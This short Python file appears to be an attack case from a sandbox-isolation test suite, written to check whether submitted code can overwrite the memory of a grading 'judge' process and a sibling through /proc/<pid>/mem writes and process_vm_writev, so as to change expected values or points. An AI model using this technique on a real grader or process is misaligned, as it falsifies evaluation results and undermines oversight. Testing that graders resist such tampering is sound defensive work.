# attack: Writes to the judge's memory at a known address, through /proc and with process_vm_writev.
# hurts: Changes expected values or points in the judge.
# ends: returns
import ctypes
import os

from _raw import attempt, call


def attack(target):
    text = b"x" * target["length"]
    tried = [attempt("mem", written, f"/proc/{target['judge_pid']}/mem", target["address"], text)]
    tried += [vectors(target["judge_pid"], target["address"], text)]
    # In a name space of its own it may have the sibling's number itself, and would only hurt itself.
    for pid in sorted({target["sibling_pid"], target["sibling_outer_pid"]} - {os.getpid()}):
        tried.append(attempt("mem", written, f"/proc/{pid}/mem", target["sibling_address"], text))
        tried.append(vectors(pid, target["sibling_address"], text))
    return tried


def written(path, address, text):
    descriptor = os.open(path, os.O_RDWR)
    try:
        return os.pwrite(descriptor, text, address)
    finally:
        os.close(descriptor)


def vectors(pid, address, text):
    buffer = ctypes.create_string_buffer(text)
    ours = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), len(text))
    theirs = (ctypes.c_uint64 * 2)(address, len(text))
    return f"process_vm_writev: {call('process_vm_writev', pid, ours, 1, theirs, 1, 0)}"
